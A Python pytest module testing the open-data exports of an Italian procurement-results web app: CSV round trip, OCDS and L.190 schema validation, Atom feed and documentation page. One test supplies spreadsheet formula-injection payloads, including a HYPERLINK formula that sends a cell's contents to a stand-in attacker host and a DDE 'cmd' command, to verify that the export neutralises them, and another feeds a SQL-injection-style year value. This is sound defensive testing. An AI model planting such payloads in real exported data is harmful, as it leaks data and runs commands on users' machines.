"""Open data: CSV round trip, OCDS schema, L.190 XSD, Atom feed, streaming, documentation page."""

import csv
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import feedparser
import jsonschema
import pytest
from django.http import StreamingHttpResponse
from lxml import etree
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT4

from esiti import services
from esiti.models import Esito

from .conftest import URL

pytestmark = pytest.mark.django_db
FIXTURES = Path(__file__).parent / "fixtures"


def corpo(risposta):
    assert risposta.status_code == 200
    assert isinstance(risposta, StreamingHttpResponse)
    return b"".join(risposta.streaming_content).decode()


@pytest.fixture
def esiti(demo, fabbrica):
    d = datetime.date
    fatti = {
        "rti": fabbrica.pubblicato(
            cig="G000000001",
            oggetto='Servizi cloud, "IaaS" e backup; lotto unico',
            importo_aggiudicazione=Decimal("1234567.89"),
            importo_somme_liquidate=Decimal("1000.10"),
            data_aggiudicazione=d(2024, 3, 1),
            data_inizio=d(2024, 4, 1),
            data_ultimazione=d(2026, 10, 2),
        ),
        "singolo": fabbrica.pubblicato(
            cig="G000000002",
            contratto=demo.secondo,
            oggetto="Connettività\nsedi",
            importo_aggiudicazione=Decimal("5000.00"),
            data_aggiudicazione=d(2024, 6, 1),
        ),
        "prato": fabbrica.pubblicato(cig="G000000003", ente=demo.prato, data_aggiudicazione=d(2024, 7, 1)),
        "ritirato": fabbrica.pubblicato(cig="G000000004", data_aggiudicazione=d(2024, 8, 1)),
        "annullato": fabbrica.pubblicato(cig="G000000005", data_aggiudicazione=d(2024, 9, 1)),
        "2025": fabbrica.pubblicato(cig="G000000006", data_aggiudicazione=d(2025, 1, 15)),
    }
    services.ritira(fatti["ritirato"], utente=demo.user("banditore"), motivo="Errore materiale")
    services.segna_annullato(fatti["annullato"])
    fabbrica.bozza(cig="G000000099")
    return {k: Esito.objects.get(pk=v.pk) for k, v in fatti.items()}


# --- CSV -----------------------------------------------------------------------------------------


def leggi_csv(testo):
    return list(csv.DictReader(io.StringIO(testo)))


def test_csv_round_trip(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/csv/")
    assert risposta["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="esiti.csv"' in risposta["Content-Disposition"]
    righe = {r["cig"]: r for r in leggi_csv(corpo(risposta))}
    assert set(righe) == {"G000000001", "G000000002", "G000000003", "G000000004", "G000000005", "G000000006"}
    for esito in esiti.values():
        riga = righe[esito.cig]
        assert int(riga["id"]) == esito.pk
        assert riga["ocid"] == esito.ocid
        assert riga["oggetto"] == esito.oggetto
        assert riga["cig_accordo_quadro"] == esito.cig_accordo_quadro
        assert riga["struttura_proponente"] == esito.ente_denominazione
        assert riga["codice_fiscale_struttura_proponente"] == esito.ente_codice_fiscale
        assert Decimal(riga["importo_aggiudicazione"]) == esito.importo_aggiudicazione
        assert Decimal(riga["importo_somme_liquidate"]) == esito.importo_somme_liquidate
        assert datetime.date.fromisoformat(riga["data_aggiudicazione"]) == esito.data_aggiudicazione
        assert datetime.date.fromisoformat(riga["data_ultimazione"]) == esito.data_ultimazione
        assert datetime.datetime.fromisoformat(riga["pubblicato_il"]) == esito.pubblicato_il
        assert riga["stato"] == esito.stato
        assert (riga["annullato"] == "true") == esito.annullato
        assert riga["url"] == f"http://testserver{URL}{esito.pk}/"
        assert json.loads(riga["partecipanti"]) == [
            {
                "ragione_sociale": p.ragione_sociale,
                "codice_fiscale": p.codice_fiscale,
                "identificativo_estero": p.identificativo_estero,
                "ruolo": p.ruolo,
            }
            for p in esito.partecipanti.all()
        ]
    assert righe["G000000004"]["motivo_ritiro"] == "Errore materiale"
    assert righe["G000000001"]["oggetto"] == 'Servizi cloud, "IaaS" e backup; lotto unico'


@pytest.mark.parametrize(
    "ostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_neutralizza_le_formule(client, demo, fabbrica, ostile):
    esito = fabbrica.pubblicato(cig="G000000077", oggetto=ostile, importo_aggiudicazione=Decimal("10.50"))
    services.ritira(esito, utente=demo.user("banditore"), motivo=ostile)
    esito = Esito.objects.get(pk=esito.pk)  # as stored (the services trim the text)
    assert esito.oggetto.startswith(("=", "+", "-", "@", "\t", "\r"))
    riga = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/")))[0]
    assert riga["oggetto"] == "'" + esito.oggetto and riga["motivo_ritiro"] == "'" + esito.ritirato_motivo
    # Numbers stay numbers; harmless text is untouched.
    assert riga["importo_aggiudicazione"] == "10.50" and riga["id"] == str(esito.pk)
    assert riga["cig"] == "G000000077" and riga["struttura_proponente"] == "Comune di Firenze"


def test_csv_applica_i_filtri_della_ricerca(client, demo, esiti):
    righe = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/", {"ente": demo.prato.pk})))
    assert [r["cig"] for r in righe] == ["G000000003"]
    righe = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/", {"q": "backup", "anno": "2024"})))
    assert [r["cig"] for r in righe] == ["G000000001"]


def test_csv_con_filtri_non_validi_li_ignora_e_lo_dice(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/csv/", {"anno": "mai", "importo_min": "boh"})
    assert len(leggi_csv(corpo(risposta))) == 6
    assert risposta["X-Filtri-Ignorati"] == "anno, importo_min"


def test_gli_export_sono_in_streaming_a_blocchi(client, esiti, settings):
    intero = corpo(client.get(f"{URL}dati-aperti/csv/"))
    settings.SCT_ESITI_BLOCCO_EXPORT = 2
    risposta = client.get(f"{URL}dati-aperti/csv/")
    pezzi = list(risposta.streaming_content)
    assert len(pezzi) == 1 + 3  # header, then 6 esiti in blocks of 2
    assert b"".join(pezzi).decode() == intero
    ocds = list(client.get(f"{URL}dati-aperti/ocds/").streaming_content)
    assert len(ocds) == 1 + 3 + 1
    assert len(json.loads(b"".join(ocds))["releases"]) == 6


# --- OCDS ----------------------------------------------------------------------------------------


def validatore_ocds():
    pacchetto = json.loads((FIXTURES / "release-package-schema.json").read_text())
    rilascio = json.loads((FIXTURES / "release-schema.json").read_text())
    registro = Registry().with_resource(rilascio["id"], Resource.from_contents(rilascio, default_specification=DRAFT4))
    return jsonschema.Draft4Validator(pacchetto, registry=registro)


def test_ocds_valida_contro_lo_schema_del_release_package(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/ocds/")
    assert risposta["Content-Type"].startswith("application/json")
    pacchetto = json.loads(corpo(risposta))
    errori = sorted(validatore_ocds().iter_errors(pacchetto), key=str)
    assert errori == [], "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errori[:10])
    assert pacchetto["version"] == "1.1"
    assert pacchetto["license"] == "https://creativecommons.org/licenses/by/4.0/"
    datetime.datetime.fromisoformat(pacchetto["publishedDate"])
    assert len(pacchetto["releases"]) == 6


def test_ocds_un_processo_per_ordinativo_collegato_all_accordo_quadro(client, esiti):
    pacchetto = json.loads(corpo(client.get(f"{URL}dati-aperti/ocds/")))
    rilasci = {r["ocid"]: r for r in pacchetto["releases"]}
    assert len(rilasci) == 6  # one contracting process per order
    r = rilasci["ocds-sctne1-G000000001"]
    assert r["tag"] == ["award", "contract"]
    assert r["buyer"] == {"id": "IT-CF-01307110484", "name": "Comune di Firenze"}
    [award] = r["awards"]
    assert award["value"] == {"amount": 1234567.89, "currency": "EUR"}
    assert award["status"] == "active"
    assert [s["name"] for s in award["suppliers"]] == [
        "Telecom Italia S.p.A.",
        "Cloud Toscana Servizi S.r.l.",
        "Dati e Reti Toscane S.r.l.",
    ]
    ruoli = {p["id"]: p["roles"] for p in r["parties"]}
    assert ruoli["IT-CF-05724831002"] == ["supplier", "tenderer"]
    assert ruoli["IT-CF-01307110484"] == ["buyer", "procuringEntity"]
    assert r["contracts"][0]["awardID"] == award["id"]
    assert r["contracts"][0]["period"]["endDate"].startswith("2026-10-02T00:00:00")
    [quadro] = r["relatedProcesses"]
    assert quadro["relationship"] == ["framework"]
    assert quadro["scheme"] == "ocid"
    assert quadro["identifier"] == "ocds-sctne1-7154112FF8"
    assert quadro["uri"].endswith("/contratti/sistema-cloud-toscana/")
    assert r["tender"]["procurementMethod"] == "direct"
    for chiave in ("ocds-sctne1-G000000004", "ocds-sctne1-G000000005"):
        assert rilasci[chiave]["awards"][0]["status"] == "cancelled"
        assert rilasci[chiave]["tag"] == ["awardCancellation"]
    for rilascio in pacchetto["releases"]:
        datetime.datetime.fromisoformat(rilascio["date"])
        datetime.datetime.fromisoformat(rilascio["awards"][0]["date"])


def test_ocds_vuoto_e_json_valido(client, esiti):
    pacchetto = json.loads(corpo(client.get(f"{URL}dati-aperti/ocds/", {"q": "nessuna corrispondenza"})))
    assert pacchetto["releases"] == []


# --- L.190 ---------------------------------------------------------------------------------------


def schema_l190():
    return etree.XMLSchema(etree.parse(str(FIXTURES / "datasetAppaltiL190.xsd")))


def test_l190_valida_contro_l_xsd(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/l190/2024/01307110484/")
    assert risposta["Content-Type"].startswith("application/xml")
    documento = etree.fromstring(corpo(risposta).encode())
    schema = schema_l190()
    assert schema.validate(documento), schema.error_log
    assert documento.tag == "{legge190_1_0}pubblicazione"
    lotti = documento.findall("data/lotto")
    # Firenze 2024: in force only (not the withdrawn, not the cancelled, not Prato's, not 2025's)
    assert [lotto.findtext("cig") for lotto in lotti] == ["G000000001", "G000000002"]
    assert documento.findtext("metadata/annoRiferimento") == "2024"
    assert documento.findtext("metadata/entePubblicatore") == "Comune di Firenze"
    assert documento.findtext("metadata/licenza") == "CC BY 4.0"
    assert documento.findtext("metadata/urlFile") == f"http://testserver{URL}dati-aperti/l190/2024/01307110484/"
    rti, singolo = lotti
    assert rti.findtext("sceltaContraente") == "26-AFFIDAMENTO DIRETTO IN ADESIONE AD ACCORDO QUADRO/CONVENZIONE"
    assert rti.findtext("strutturaProponente/codiceFiscaleProp") == "01307110484"
    assert rti.findtext("importoAggiudicazione") == "1234567.89"
    assert rti.findtext("importoSommeLiquidate") == "1000.10"
    assert rti.findtext("tempiCompletamento/dataUltimazione") == "2026-10-02"
    membri = rti.findall("aggiudicatari/aggiudicatarioRaggruppamento/membro")
    assert [(m.findtext("codiceFiscale"), m.findtext("ruolo")) for m in membri] == [
        ("00488410010", "02-MANDATARIA"),
        ("05724831002", "01-MANDANTE"),
        ("01234567897", "01-MANDANTE"),
    ]
    assert len(rti.findall("partecipanti/raggruppamento/membro")) == 3
    assert singolo.findtext("aggiudicatari/aggiudicatario/ragioneSociale") == "Connettività Toscana S.p.A."


def test_l190_senza_esiti_e_valido_e_vuoto(client, esiti):
    documento = etree.fromstring(corpo(client.get(f"{URL}dati-aperti/l190/2020/84006890481/")).encode())
    assert schema_l190().validate(documento)
    assert documento.findall("data/lotto") == []


@pytest.mark.parametrize("indirizzo", ["l190/2024/00000000000/", "l190/1999/01307110484/", "l190/9999/01307110484/"])
def test_l190_ente_o_anno_inesistente_e_404(client, esiti, indirizzo):
    assert client.get(f"{URL}dati-aperti/{indirizzo}").status_code == 404


# --- feed and documentation ----------------------------------------------------------------------


def test_il_feed_atom_si_legge(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/feed/")
    assert risposta["Content-Type"].startswith("application/atom+xml")
    feed = feedparser.parse(risposta.content)
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    titoli = [voce.title for voce in feed.entries]
    assert len(titoli) == 6
    assert titoli[0].startswith("CIG G000000006")  # newest first
    assert any(t.startswith("[Ritirato] CIG G000000004") for t in titoli)
    assert any(t.startswith("[Annullato] CIG G000000005") for t in titoli)
    assert all(voce.link.startswith(f"http://testserver{URL}") for voce in feed.entries)


def test_pagina_dei_dati_aperti_documenta_formati_e_licenza(client, esiti):
    risposta = client.get(f"{URL}dati-aperti/")
    assert risposta.status_code == 200
    pagina = risposta.content.decode()
    assert "CC BY 4.0" in pagina and 'rel="license"' in pagina
    # The L.190 datasets of the most recent year, and links to the other years.
    for indirizzo in (
        "dati-aperti/csv/",
        "dati-aperti/ocds/",
        "dati-aperti/feed/",
        "dati-aperti/l190/2025/01307110484/",
    ):
        assert f"{URL}{indirizzo}" in pagina, indirizzo
    assert "dati-aperti/l190/2024/" not in pagina and 'href="?anno=2024"' in pagina
    anno_2024 = client.get(f"{URL}dati-aperti/?anno=2024").content.decode()
    for indirizzo in ("dati-aperti/l190/2024/01307110484/", "dati-aperti/l190/2024/84006890481/"):
        assert f"{URL}{indirizzo}" in anno_2024, indirizzo
    assert "dati-aperti/l190/2025/" not in anno_2024
    # A year without datasets or garbage: 400, the message and the most recent year's datasets.
    for strano in ("1999", "abc", "2024'--", "9" * 30, "٢٠٢٤", "-2024", " "):
        risposta = client.get(f"{URL}dati-aperti/", {"anno": strano})
        assert risposta.status_code == (200 if strano == " " else 400), strano
        pagina = risposta.content.decode()
        assert ("Anno non valido" in pagina) is (strano != " "), strano
        assert f"{URL}dati-aperti/l190/2025/01307110484/" in pagina, strano
    assert "Anno non valido" not in client.get(f"{URL}dati-aperti/", {"anno": "2024"}).content.decode()
    assert client.get(URL).content.decode().count("dati-aperti/feed/") >= 1  # <link rel="alternate">


def test_pagina_dei_dati_aperti_si_aggiorna_a_ogni_pubblicazione(client, demo, esiti, fabbrica):
    assert "dati-aperti/l190/2026/" not in client.get(f"{URL}dati-aperti/").content.decode()
    fabbrica.pubblicato(cig="G000000099", ente=demo.prato, data_aggiudicazione=datetime.date(2026, 2, 1))
    pagina = client.get(f"{URL}dati-aperti/").content.decode()
    assert f"{URL}dati-aperti/l190/2026/84006890481/" in pagina and 'href="?anno=2025"' in pagina


def test_ocds_acquirente_anche_fornitore_una_sola_parte_con_tutti_i_ruoli(client, demo, esiti, fabbrica):
    """An ente inside the RTI it buys from (e.g. an in-house company's owner): one party, both roles,
    and the releases around it keep their own parties (the encoded fragments are not mixed up)."""
    from esiti.models import PartecipanteEsito

    esito = fabbrica.pubblicato(cig="G000000077")
    PartecipanteEsito.objects.create(
        esito=esito, ragione_sociale="Comune di Firenze", codice_fiscale="01307110484", ruolo="mandante", ordine=9
    )
    pacchetto = json.loads(corpo(client.get(f"{URL}dati-aperti/ocds/")))
    rilasci = {r["ocid"]: r for r in pacchetto["releases"]}
    parti = rilasci["ocds-sctne1-G000000077"]["parties"]
    assert [p["id"] for p in parti].count("IT-CF-01307110484") == 1
    ruoli = {p["id"]: p["roles"] for p in parti}
    assert ruoli["IT-CF-01307110484"] == ["buyer", "procuringEntity", "supplier", "tenderer"]
    assert "Comune di Firenze" in [s["name"] for s in rilasci["ocds-sctne1-G000000077"]["awards"][0]["suppliers"]]
    assert {p["id"]: p["roles"] for p in rilasci["ocds-sctne1-G000000001"]["parties"]}["IT-CF-01307110484"] == [
        "buyer",
        "procuringEntity",
    ]
    assert not list(validatore_ocds().iter_errors(pacchetto))  # still valid against the schema
